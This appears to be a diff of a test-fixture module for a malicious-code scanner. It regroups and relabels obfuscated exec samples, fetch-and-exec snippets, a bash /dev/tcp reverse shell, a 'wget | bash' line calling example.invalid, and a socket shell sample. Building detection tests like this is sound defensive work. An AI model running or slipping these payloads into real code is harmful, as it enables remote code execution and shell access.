@@ -58,15 +58,13 @@ TORCHSCRIPT = '''class Linear(Module):
 
 ENCODED = base64.b64encode(b"import os; os.system('true')").decode()
 
-HIDDEN = {
+DECODED = {
     "exec-base64": f"import base64\nexec(base64.b64decode('{ENCODED}'))\n",
     "alias": f"from base64 import b64decode as d\nexec(d('{ENCODED}'))\n",
     "variable": f"import base64\np = base64.b64decode('{ENCODED}')\nq = p.decode()\nexec(q)\n",
     "compile": f"import base64 as b\nexec(compile(b.b64decode('{ENCODED}'), 'x', 'exec'))\n",
     "zlib": "import zlib, base64\neval(zlib.decompress(base64.b64decode('')))\n",
     "marshal": "import marshal\nexec(marshal.loads(bytes.fromhex('')))\n",
-    "fetched": "import urllib.request as u\nexec(u.urlopen('https://example.invalid/x').read())\n",
-    "requests": "import requests\nr = requests.get('https://example.invalid/x')\nexec(r.text)\n",
     "characters": "exec(''.join(chr(i) for i in [112, 97, 115, 115]))\n",
     "builtins": f"import base64\n__builtins__['exec'](base64.b64decode('{ENCODED}'))\n",
     "one-line": f"import base64 as b;exec(b.b64decode('{ENCODED}'))",
@@ -76,6 +74,12 @@ HIDDEN = {
     "in-default": f"import base64\ndef f(x=exec(base64.b64decode('{ENCODED}'))):\n    pass\n",
     "in-decorator": f"import base64\n@exec(base64.b64decode('{ENCODED}'))\ndef f():\n    pass\n",
     "joined-lines": f"import base64\nexec(  \\\n  base64.b64decode(\n    '{ENCODED}'\n))\n",
+}
+FETCHED = {
+    "fetched": "import urllib.request as u\nexec(u.urlopen('https://example.invalid/x').read())\n",
+    "requests": "import requests\nr = requests.get('https://example.invalid/x')\nexec(r.text)\n",
+}
+HIDDEN = {
     "import-expression": "__import__('os').system('true')\n",
     "import-pieces": "__import__('o' + 's').system('true')\n",
     "import-escaped": "__import__('\\x6f\\x73').popen('true')\n",
@@ -87,6 +91,16 @@ DOWNLOAD = {
     "tcp": "import subprocess as s\ns.call('bash -i >& /dev/tcp/example.invalid/1 0>&1', shell=True)\n",
     "in-method": "import os\nclass M:\n    def __init__(self):\n        os.popen('wget -qO- https://example.invalid/x | bash')\n",
 }
+RUNS = {"curl": "behaviour-download-and-run", "tcp": "behaviour-reverse-shell", "in-method": "behaviour-runs-download"}
+WEIGHT = {"in-method": "clean"}  # an installer does the same when it is asked to
+IN_FUNCTION = {"in-function", "in-method"}
+
+
+def beside(name, rule):
+    """The rule of the behaviour, and that of the call, which depends on when it is made."""
+    return {rule, "code-runs-commands" if name in IN_FUNCTION else "code-runs-at-import"}
+
+
 SHELL = """import socket, subprocess, os
 def f():
     s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
@@ -117,14 +131,17 @@ def samples():
     yield Sample("ok", "mark.py", b"\xef\xbb\xbfimport math\n")
     yield Sample("ok", "script", b"#!/usr/bin/env python3\nprint('x')\n")
     yield Sample("ok", "torchscript.py", TORCHSCRIPT.encode(), status="skipped")
+    for name, text in DECODED.items():
+        yield Sample("evil", f"{name}.py", text.encode(), beside(name, "behaviour-decode-and-run"))
+    for name, text in FETCHED.items():
+        yield Sample("evil", f"{name}.py", text.encode(), beside(name, "behaviour-download-and-run"))
     for name, text in HIDDEN.items():
-        extra = {"code-runs-at-import"} if name == "compile" else set()
-        yield Sample("evil", f"{name}.py", text.encode(), {"code-hidden"} | extra)
+        yield Sample("evil", f"{name}.py", text.encode(), {"code-hidden"})
     yield Sample("evil", "torchscript-that-imports.py",
                  (TORCHSCRIPT + "import os\n__import__('os').system('true')\n").encode(),
                  {"code-hidden"})
     for name, text in DOWNLOAD.items():
-        yield Sample("evil", f"{name}.py", text.encode(), {"code-download-and-run"})
+        yield Sample("evil", f"{name}.py", text.encode(), beside(name, RUNS[name]), WEIGHT.get(name, "malicious"))
     yield Sample("evil", "shell.py", SHELL.encode(), {"code-reverse-shell", "code-runs-commands"})
     for name, text in IMPORT_TIME.items():
         yield Sample("evil", f"import-{name}.py", text.encode(), {"code-runs-at-import"}, "review")
